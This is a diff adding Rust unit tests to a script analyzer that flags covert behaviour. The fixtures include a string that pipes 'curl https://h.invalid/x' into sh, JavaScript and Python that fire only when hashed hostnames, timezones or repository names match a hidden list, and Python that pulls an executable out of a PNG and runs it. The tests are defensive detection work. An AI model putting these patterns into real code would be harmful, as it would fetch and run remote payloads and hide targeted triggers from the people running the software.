@@ -122,3 +122,59 @@ fn a_rotated_table_is_the_same_for_functions_that_are_called_later() {
     let late = "try { const a = 1 + 1; } catch (e) { require('child_process').exec('curl https://h.invalid/x | sh'); }";
     assert!(rules(Language::JavaScript, late).contains(&"flow-remote-code"), "{:?}", rules(Language::JavaScript, late));
 }
+
+#[test]
+fn digests_of_the_surroundings_that_are_looked_for_in_a_list() {
+    let told = |language: Language, code: &str| {
+        outcome(language, code).choices.iter().any(crate::analyze::script::covert::Choice::is_by_hidden_list)
+    };
+    let javascript = |code: &str| {
+        let head = "const { createHash } = require('crypto'), os = require('os');\n\
+                    const sum = (s) => createHash('md5').update(s).digest('hex').slice(0, 12);\n\
+                    function fnv(s) { let h = 0x811c9dc5; for (let i = 0; i < s.length; i++) { h ^= s.charCodeAt(i); h = Math.imul(h, 0x01000193); } return h >>> 0; }\n\
+                    const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;\n";
+        told(Language::JavaScript, &format!("{head}{code}"))
+    };
+    for code in [
+        "const L = new Set(['9f86d081884c']); if (L.has(sum(zone))) f();",
+        "const L = ['9f86d081884c']; exports.f = () => L.findIndex((c) => c === sum(process.env.GITHUB_REPOSITORY));",
+        "const L = [0x9f86d081, 0x60303ae2]; exports.f = () => L.includes(fnv(os.hostname()));",
+        "const T = { '9f86d081884c': 1 }; const mode = T[sum(zone)]; if (mode) f();",
+        "const { pins } = require('./pins.json'); exports.f = () => pins.includes(sum(process.env.X_BASE_URL));",
+        "const o = require('child_process').execSync('git config user.email').toString(); if (sum(o) === '9f86d081884c') f();",
+        "if (Buffer.from(os.hostname()).toString('hex').endsWith('2e6578616d706c65')) f();",
+    ] {
+        assert!(javascript(code), "{code}");
+    }
+    for code in [
+        // A share of all, a key of a cache, what was saved before, and a plain list.
+        "if (fnv(os.hostname()) % 100 === 7) f();",
+        "const seen = {}; const k = sum(zone); if (seen[k]) f(); seen[k] = 1;",
+        "const A = '0123456789ABCDEFGHJKMNPQRSTVWXYZ'; const c = A[fnv(os.hostname()) & 31]; if (c) f();",
+        "const r = require('fs').readFileSync(sum(zone) + '.json', 'utf8'); if (typeof r !== 'number' && r !== 'b1c2d3e4') f();",
+        "if (sum(zone) === localStorage.getItem('k')) f();",
+        "if (['Region/City'].includes(zone)) f();",
+        "exports.f = (name) => ['9f86d081884c'].includes(sum(name));",
+    ] {
+        assert!(!javascript(code), "{code}");
+    }
+    let python = "import hashlib, os, zlib\nPINS = frozenset(['9f86d081884c'])\n\
+                  def f():\n    return hashlib.sha256(os.environ['X_BASE_URL'].encode()).hexdigest()[:12] in PINS\n";
+    assert!(told(Language::Python, python));
+    assert!(!told(Language::Python, &python.replace("in PINS", "== os.environ.get('SEEN')")));
+}
+
+#[test]
+fn programs_that_come_along_in_a_picture() {
+    let code = |then: &str| {
+        format!(
+            "import os, subprocess, tempfile\nraw = open('docs/_static/side.png', 'rb').read()[617:]\n\
+             t = os.path.join(tempfile.mkdtemp(), 'output')\nwith open(t, 'wb') as f:\n    f.write(raw)\n{then}\n"
+        )
+    };
+    let starts = code("os.chmod(t, 0o755)\nsubprocess.Popen([t])");
+    assert!(rules(Language::Python, &starts).contains(&"flow-program-from-carrier"));
+    // A viewer is handed the picture.
+    let shows = code("subprocess.Popen(['eog', t])");
+    assert!(!rules(Language::Python, &shows).contains(&"flow-program-from-carrier"));
+}
